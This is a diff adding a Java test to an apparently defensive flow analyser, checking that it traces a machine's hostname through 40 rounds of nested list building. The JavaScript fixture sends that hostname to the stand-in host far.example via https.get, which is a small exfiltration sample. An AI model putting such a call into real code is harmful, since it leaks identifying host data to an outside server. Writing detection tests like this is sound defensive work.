@@ -88,4 +88,19 @@ class LargeProgramsTest {
 
         assertThat(analysis.result().gaps()).isEmpty();
     }
+
+    @Test
+    void listsOfListsThatMayBeOneOrAnotherAreWrittenInFewSteps() {
+        Analysis analysis = Analysis.ofActivate("""
+                let list = [os.hostname()];
+                for (let i = 0; i < 40; i++) {
+                  const one = [list, 'a' + i], other = [list, 'b' + i];
+                  list = Math.random() > 0.5 ? one : other;
+                }
+                https.get('https://far.example/' + [list, list].join('-'));
+                """, STEPS);
+
+        assertThat(analysis.result().gaps()).isEmpty();
+        assertThat(analysis.flowNames()).contains("account-identity -> network-url");
+    }
 }
